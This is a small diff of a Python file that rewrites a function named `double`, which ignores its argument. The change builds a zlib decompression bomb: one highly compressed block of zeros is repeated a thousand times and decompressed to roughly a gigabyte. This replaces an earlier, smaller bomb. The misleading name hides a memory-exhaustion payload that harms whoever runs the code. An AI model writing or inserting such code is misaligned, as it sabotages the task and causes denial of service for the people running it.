@@ -5,6 +5,6 @@ import zlib
 
 
 def double(n):
-    packer = zlib.compressobj(9)
-    bomb = b"".join(packer.compress(bytes(1 << 20)) for _ in range(300)) + packer.flush()
-    return len(zlib.decompress(bomb))
+    packer = zlib.compressobj(9, wbits=-15)
+    block = packer.compress(bytes(1 << 20)) + packer.flush(zlib.Z_FULL_FLUSH)
+    return len(zlib.decompress(block * 1000 + packer.flush(), wbits=-15))
